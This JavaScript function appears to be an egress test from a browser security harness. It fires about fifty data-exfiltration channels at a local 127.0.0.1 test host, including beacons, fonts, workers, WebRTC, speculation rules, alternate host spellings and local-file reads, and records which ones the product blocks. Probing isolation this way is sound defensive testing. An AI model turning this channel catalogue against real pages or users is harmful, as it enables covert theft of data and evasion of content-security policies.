// Tries every channel that a page has, all at once, and says what it saw of each. What got through is judged elsewhere.
async ({ second, hit, own, ports, spellings, schemes, files, urls, paths, controls, knocks, patience }) => {
  const later = (ms) => new Promise((done) => setTimeout(done, ms));
  const blocked = []; // by a policy of the product's own
  addEventListener("securitypolicyviolation", (event) => blocked.push(event.blockedURI));
  const sandbox = document.createElement("div");
  sandbox.style = "position: fixed; left: 0; top: 0; width: 1px; height: 1px; overflow: hidden; opacity: 0";
  document.documentElement.append(sandbox);

  const at = (name) => hit + encodeURIComponent(name);
  const by = (url) => `${own}/uigym-attack/redirect?to=${encodeURIComponent(url)}`;
  const ws = (url) => url.replace(/^http/, "ws");
  const event = (target, good, bad = "error") =>
    new Promise((done, fail) => {
      target.addEventListener(good, () => done(good), { once: true });
      target.addEventListener(bad, () => fail(new Error(bad)), { once: true });
    });
  const element = (tag, attributes, children = "") => {
    const made = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    if (children) made.innerHTML = children;
    sandbox.append(made);
    return made;
  };
  const loaded = (tag, attributes, good = "load") => {
    const made = document.createElement(tag);
    const ended = event(made, good);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    sandbox.append(made);
    return ended;
  };
  const read = async (url, options) => {
    const answer = await fetch(url, { cache: "no-store", ...options });
    const bytes = new Uint8Array(await answer.arrayBuffer()).slice(0, 256);
    return { status: answer.status, type: answer.type, head: btoa(String.fromCharCode(...bytes)) };
  };
  const socket = async (url) => {
    const made = new WebSocket(url);
    const opened = await event(made, "open");
    made.send("hello");
    return opened;
  };
  const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
  const worker = (text, Kind = Worker) => {
    const made = new Kind(blob(text));
    const port = made.port ?? made;
    return new Promise((done, fail) => {
      port.onmessage = (message) => done(message.data);
      made.onerror = (error) => fail(new Error(error.message || "error"));
    });
  };
  const say = (act, to = "self") =>
    `(async () => { ${act} })().then((v) => ${to}.postMessage(String(v)), (e) => ${to}.postMessage("refused: " + e))`;
  const style = (text) => element("style", {}, text);
  const click = (attributes) => element("a", attributes, "x").click();
  const submit = (attributes) => element("form", attributes, "<input name=stolen value=1>").submit();
  const target = (name) => element("iframe", { name }) && name;

  const channels = {
    fetch: (url) => read(url),
    "fetch without CORS": (url) => read(url, { mode: "no-cors" }),
    "fetch by POST": (url) => read(url, { method: "POST", mode: "no-cors", body: "stolen" }),
    "fetch that outlives the page": (url) => read(url, { keepalive: true, mode: "no-cors" }),
    XMLHttpRequest: (url) => ask(url),
    beacon: (url) => navigator.sendBeacon(url, "stolen"),
    EventSource: (url) => event(new EventSource(url), "open"),
    image: (url) => loaded("img", { src: url }),
    "responsive image": (url) => loaded("img", { srcset: `${url} 1x` }),
    "SVG image": (url) => loaded("embed", { type: "image/svg+xml", src: blob(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`, "image/svg+xml") }),
    script: (url) => loaded("script", { src: url }),
    "module script": (url) => loaded("script", { src: url, type: "module" }),
    import: (url) => import(url).then(() => "imported"),
    "style sheet": (url) => loaded("link", { rel: "stylesheet", href: url }),
    "style import": (url) => style(`@import url("${url}");`),
    "style picture": (url) => (style(`#stolen { background: url("${url}"); width: 9px; height: 9px }`), element("div", { id: "stolen" })),
    font: (url) => new FontFace("stolen", `url("${url}")`).load(),
    video: (url) => loaded("video", { src: url, preload: "auto" }, "loadeddata"),
    audio: (url) => loaded("audio", { src: url, preload: "auto" }, "loadeddata"),
    track: (url) => element("video", { src: "data:video/mp4,", crossorigin: "anonymous" }, `<track default src="${url}">`),
    object: (url) => loaded("object", { data: url }),
    embed: (url) => loaded("embed", { src: url }),
    frame: (url) => loaded("iframe", { src: url }),
    "sandboxed frame": (url) => loaded("iframe", { src: url, sandbox: "allow-scripts" }),
    "frame that refreshes": (url) => loaded("iframe", { srcdoc: `<meta http-equiv=refresh content="0; url=${url}">` }),
    "frame of a data address": (url) => loaded("iframe", { src: `data:text/html,<img src="${url}">` }),
    "frame by script": (url) => (frames[target("moved")].location = url) && "moved",
    "form by GET": (url) => submit({ action: url, target: target("got") }),
    "form by POST": (url) => submit({ action: url, method: "post", target: target("posted") }),
    "link ping": (url) => click({ href: "#stolen", ping: url }),
    "download link": (url) => click({ href: url, download: "stolen", target: target("downloaded") }),
    prefetch: (url) => element("link", { rel: "prefetch", href: url }),
    preload: (url) => element("link", { rel: "preload", as: "fetch", href: url, crossorigin: "" }),
    "module preload": (url) => element("link", { rel: "modulepreload", href: url }),
    prerender: (url) => element("link", { rel: "prerender", href: url }),
    "site icon": (url) => element("link", { rel: "icon", href: url }),
    manifest: (url) => element("link", { rel: "manifest", href: url }),
    "speculated prefetch": (url) => speculate({ prefetch: [{ urls: [url], eagerness: "immediate" }] }),
    "speculated prerender": (url) => speculate({ prerender: [{ urls: [url], eagerness: "immediate" }] }),
    worker: (url) => worker(say(`return (await fetch("${url}", { mode: "no-cors" })).type`)),
    "worker by XMLHttpRequest": (url) => worker(say(`const x = new XMLHttpRequest(); x.open("GET", "${url}", false); x.send(); return x.status`)),
    "worker import": (url) => worker(say(`importScripts("${url}"); return "imported"`)),
    "worker in a worker": (url) => worker(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage('refused'))"]))).onmessage = (e) => postMessage(e.data)`),
    "shared worker": (url) => worker(`onconnect = (e) => { const port = e.ports[0]; ${say(`return (await fetch("${url}", { mode: "no-cors" })).type`, "port")} }`, SharedWorker),
    worklet: (url) => new AudioContext().audioWorklet.addModule(url).then(() => "added"),
    WebSocket: (url) => socket(ws(url)),
    "WebSocket in a worker": (url) => worker(say(`await new Promise((y, n) => { const w = new WebSocket("${ws(url)}"); w.onopen = y; w.onerror = () => n("error") }); return "open"`)),
    popup: (url) => String(open(url, "_blank")),
    "link to a new tab": (url) => click({ href: url, target: "_blank", rel: "noreferrer" }),
  };
  const speculate = (rules) => {
    const made = document.createElement("script");
    made.type = "speculationrules";
    made.textContent = JSON.stringify(rules);
    sandbox.append(made);
    return "asked";
  };
  const rtc = async (server) => {
    const peer = new RTCPeerConnection({ iceServers: [server] });
    const found = [];
    peer.createDataChannel("stolen");
    peer.onicecandidate = (event) => event.candidate && found.push(event.candidate.candidate);
    await peer.setLocalDescription(await peer.createOffer());
    await later(patience / 2);
    return found.length ? found : Promise.reject(new Error("no way out"));
  };
  const serve = async (url, socket) => {
    const made = await navigator.serviceWorker.register(`${own}/uigym-attack/worker.js`);
    const port = new MessageChannel();
    const said = new Promise((done) => (port.port1.onmessage = (message) => done(message.data)));
    (made.installing ?? made.waiting ?? made.active).postMessage({ url, socket }, [port.port2]);
    const answer = await said.finally(() => made.unregister());
    return answer.startsWith("refused") ? Promise.reject(new Error(answer)) : answer;
  };
  const redirected = {
    fetch: (url) => read(url, { mode: "no-cors" }),
    image: (url) => loaded("img", { src: url }),
    frame: (url) => loaded("iframe", { src: url }),
    popup: (url) => String(open(url, "_blank")),
  };
  const ask = (url) => {
    const made = new XMLHttpRequest();
    made.open("GET", url);
    made.send();
    return event(made, "load");
  };

  const tries = [];
  const add = (target, channel, act) => tries.push([target, channel, act]);
  for (const [name, act] of Object.entries(channels)) add(second, name, () => act(at(name)));
  for (const [name, act] of Object.entries(redirected)) add(second, `redirect of a ${name}`, () => act(by(at(`redirect of a ${name}`))));
  for (const [name, host] of Object.entries(spellings))
    add(second, `the host as ${name}`, () => read(at(`the host as ${name}`).replace("127.0.0.1", host), { mode: "no-cors" }));
  add(second, "service worker", () => serve(at("service worker"), ""));
  add(second, "WebSocket in a service worker", () => serve("", ws(at("WebSocket in a service worker"))));
  add(second, "WebSocket with TLS", () => socket(`wss://127.0.0.1:${ports["WebSocket with TLS"]}/`));
  add(second, "https", () => read(`https://127.0.0.1:${ports.https}/`));
  add(second, "preconnect", () => element("link", { rel: "preconnect", href: `http://127.0.0.1:${ports.preconnect}/` }));
  add(second, "WebRTC by STUN", () => rtc({ urls: `stun:127.0.0.1:${ports["WebRTC by STUN"]}` }));
  add(second, "WebRTC by TURN", () => rtc({ urls: `turn:127.0.0.1:${ports["WebRTC by TURN"]}?transport=tcp`, username: "a", credential: "b" }));
  add(second, "WebTransport", () => new WebTransport(`https://127.0.0.1:${ports.WebTransport}/`).ready);
  for (const [name, url] of Object.entries(schemes)) {
    add(name, "popup", () => String(open(url, "_blank")));
    add(name, "frame", () => (element("iframe", { src: url }), "asked"));
  }
  for (const [place, url] of Object.entries(files)) {
    add(place, "fetch", () => read(url));
    add(place, "XMLHttpRequest", () => ask(url));
    add(place, "frame", () => (element("iframe", { src: url }), "asked"));
    add(place, "script", () => loaded("script", { src: url }));
    add(place, "image", () => loaded("img", { src: url }));
    add(place, "worker", () => worker(say(`return (await fetch("${url}")).status`)));
    add(place, "popup", () => String(open(url, "_blank")));
    add(place, "view-source", () => String(open(`view-source:${url}`, "_blank")));
    add(place, "redirect of a fetch", () => read(by(url)));
    add(place, "redirect of a frame", () => (element("iframe", { src: by(url) }), "asked"));
  }
  for (const [place, url] of Object.entries(urls)) {
    for (const name of ["fetch", "fetch without CORS", "XMLHttpRequest", "image", "script", "EventSource", "worker", "WebSocket", "WebSocket in a worker"])
      add(place, name, () => channels[name](url));
    for (const name of ["fetch", "image"]) add(place, `redirect of a ${name}`, () => redirected[name](by(url)));
  }
  for (const [place, url] of Object.entries(paths)) {
    add(place, "GET", () => read(url));
    if (controls.includes(place)) for (const [name, options] of Object.entries(knocks)) add(place, name, () => read(url, options));
  }

  const seen = await Promise.all(
    tries.map(async ([target, channel, act]) => {
      const tried = { target, channel, word: "no answer", failed: false };
      try {
        const got = await Promise.race([act(), later(patience).then(() => "no answer")]);
        if (got?.status !== undefined) return { ...tried, ...got, word: `HTTP status ${got.status}` };
        return { ...tried, word: String(got), failed: String(got).startsWith("refused") };
      } catch (error) {
        return { ...tried, word: String(error), failed: true };
      }
    }),
  );
  sandbox.remove();
  return { seen, blocked };
};
